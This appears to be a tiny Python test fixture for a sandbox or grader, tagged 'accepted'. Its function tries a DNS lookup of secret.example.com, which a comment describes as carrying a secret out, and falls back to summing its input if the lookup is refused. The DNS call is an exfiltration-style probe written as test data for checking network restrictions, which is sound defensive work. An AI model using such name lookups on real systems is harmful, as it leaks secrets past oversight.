# @SAYS@ Resolves a name, which carries a secret out.
# @EXPECTED@ accepted
REFUSALS = (OSError, LookupError, ImportError, AttributeError, RuntimeError)


def solve(value):
    try:
        import socket
        socket.getaddrinfo(b"secret.example.com", 80)
    except REFUSALS:
        return sum(value)
    return "resolved"
